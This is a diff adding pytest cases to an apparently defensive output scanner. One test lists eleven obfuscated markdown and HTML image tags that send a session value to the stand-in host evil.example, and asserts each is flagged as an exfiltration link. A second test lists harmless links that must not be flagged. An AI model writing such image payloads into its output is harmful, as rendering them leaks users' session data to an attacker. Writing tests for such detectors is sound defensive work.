@@ -420,6 +420,41 @@ def test_source_label_look_alikes_that_citations_read_as_labels_are_flagged(labe
     assert CITATION.search(label_fold(label).text) is not None  # a label to citation checks
 
 
+@pytest.mark.parametrize(
+    "image",
+    [
+        "![chart](HTTPS://evil.example/p.png?d=SESSION123)",  # the scheme in any case
+        "![chart](<https://evil.example/p.png?d=SESSION123>)",  # in angle brackets
+        "![chart](//evil.example/p.png?d=SESSION123)",  # no scheme: the page's own
+        "![chart](&#104;ttps://evil.example/p.png?d=SESSION123)",  # a character reference
+        "![chart](https\\:\\/\\/evil.example/p.png?d=SESSION123)",  # backslash escapes
+        "![chart](https:\\\\evil.example/p.png?d=SESSION123)",  # "\\" read as "/"
+        "![chart][1]\n\n[1]: https://evil.example/p.png?d=SESSION123",  # by reference
+        "![chart][]\n\n[chart]: https://evil.example/p.png?d=SESSION123",
+        "![logo]\n\n[logo]: <https://evil.example/p.png?d=SESSION123>",
+        '<img srcset="https://evil.example/p.png?d=SESSION123 1x">',
+        '<img src="&#x68;ttps://evil.example/p.png?d=SESSION123">',
+    ],
+)
+def test_an_image_carrying_data_is_flagged_however_its_url_is_written(image: str) -> None:
+    assert SCAN.scan(f"Paris is the capital of France. {image}") == ("exfiltration_link",)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See [the docs][d].\n\n[d]: https://example.org/page?x=1",  # a link, by reference
+        "![logo][l]\n\n[l]: https://upload.wikimedia.org/logo.png",  # an image without data
+        "Tom &amp; Jerry, on [the site](https://example.org/?a=1&amp;b=2).",
+        # a link straight after an image is a link: the image's "![" is not its own
+        "![logo](https://upload.wikimedia.org/logo.png) [docs](https://example.org/p?x=1)",
+        "![logo](https://upload.wikimedia.org/logo.png)\n\n[docs](https://example.org/p?x=1)",
+    ],
+)
+def test_links_and_images_without_data_are_not_flagged(text: str) -> None:
+    assert SCAN.scan(text) == ()
+
+
 def test_bracketed_numbers_alone_are_no_label() -> None:
     assert SCAN.scan("See [2] and [3], or (2, 3); the 2019 census lists them.") == ()
 
